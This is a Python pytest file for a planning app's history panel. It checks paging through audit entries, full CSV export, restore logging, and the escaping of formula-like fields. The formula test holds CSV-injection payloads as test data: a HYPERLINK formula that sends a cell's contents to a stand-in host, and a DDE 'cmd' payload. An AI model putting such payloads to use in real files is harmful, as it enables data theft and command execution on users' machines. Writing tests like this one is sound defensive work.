"""The history panel pages through all of the history and the export writes all of it;
a field a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import csv

import pytest

from workbench.domain.edits import EntityKind, SetField
from workbench.store import audit
from workbench.store.plan_store import LOAD_ORDER
from workbench.ui.history_panel import HistoryPanel
from workbench.ui.launcher import open_plan
from workbench.ui.plan_controller import PlanController

ENTRIES = 2100


@pytest.fixture
def panel(tmp_path, qtbot):
    store, plan = open_plan(str(tmp_path / "plan.db"))
    risk = plan.risks[0]
    with store.transaction(write=True) as s:  # a long-lived plan's history, written fast
        for i in range(ENTRIES):
            audit.record(s, plan_id=plan.id, client="old", action="edit", note="",
                         edit=SetField(EntityKind.RISK, risk.id, "likelihood", i, i + 1))
    panel = HistoryPanel(PlanController(plan, store))
    qtbot.addWidget(panel)
    panel.set_active(True)
    return panel


def test_the_panel_pages_through_all_of_it(panel, qtbot):
    shown = panel.tree.topLevelItemCount()
    assert 0 < shown < ENTRIES and panel.older.isEnabled()
    while panel.older.isEnabled():
        panel.older.click()
    assert panel.tree.topLevelItemCount() == ENTRIES + 1  # and the plan's creation
    assert panel.tree.topLevelItem(ENTRIES - 1).text(7) == "1"  # the very first change
    assert panel.tree.topLevelItem(ENTRIES).text(2) == "Created"


def test_the_export_writes_all_of_it(panel, tmp_path):
    out = tmp_path / "history.csv"
    panel.export_csv(out)
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    created = 1 + len(LOAD_ORDER)  # the plan's creation: its title, a count of each kind
    assert len(rows) == 1 + ENTRIES + created


def test_history_csv_fields_are_never_formulas(tmp_path, qtbot, monkeypatch):
    monkeypatch.setenv("WORKBENCH_USER", "=1+1")
    store, plan = open_plan(str(tmp_path / "plan.db"))
    controller = PlanController(plan, store)
    panel = HistoryPanel(controller)
    qtbot.addWidget(panel)
    s = plan.schemes[0]
    evil = '=HYPERLINK("http://x.example/?"&Summary!C10,"click")'
    controller.push(SetField(EntityKind.SCHEME, s.id, "name", s.name, evil), note="@SUM(A1)")
    controller.push(SetField(EntityKind.SCHEME, s.id, "provider", s.provider, "-2+3",
                             label="+Edit provider"))
    controller.push(SetField(EntityKind.SCHEME, s.id, "lever", s.lever, s.lever),
                    note="\tcmd|' /C calc'!A0")
    out = tmp_path / "history.csv"
    panel.export_csv(out)
    with out.open(newline="", encoding="utf-8") as handle:
        fields = [f for row in csv.reader(handle) for f in row]
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any("HYPERLINK" in f for f in fields)
    assert {"'@SUM(A1)", "'=1+1", "'+Edit provider", "'\tcmd|' /C calc'!A0"} <= set(fields)


def test_a_restore_is_recorded_in_the_history(tmp_path, qtbot):
    from workbench.store.backups import list_backups, take_backup
    from workbench.ui.dialogs.restore_dialog import restore_into

    db = tmp_path / "plan.db"
    store, plan = open_plan(str(db))
    controller = PlanController(plan, store)
    take_backup(db)
    controller.push(SetField(EntityKind.PLAN, plan.id, "name", plan.name, "After backup"))
    backup = list_backups(db)[-1].path
    restore_into(controller, db, backup)
    newest = controller.store.history()[0]
    assert newest.action == "restore" and backup.name in newest.new
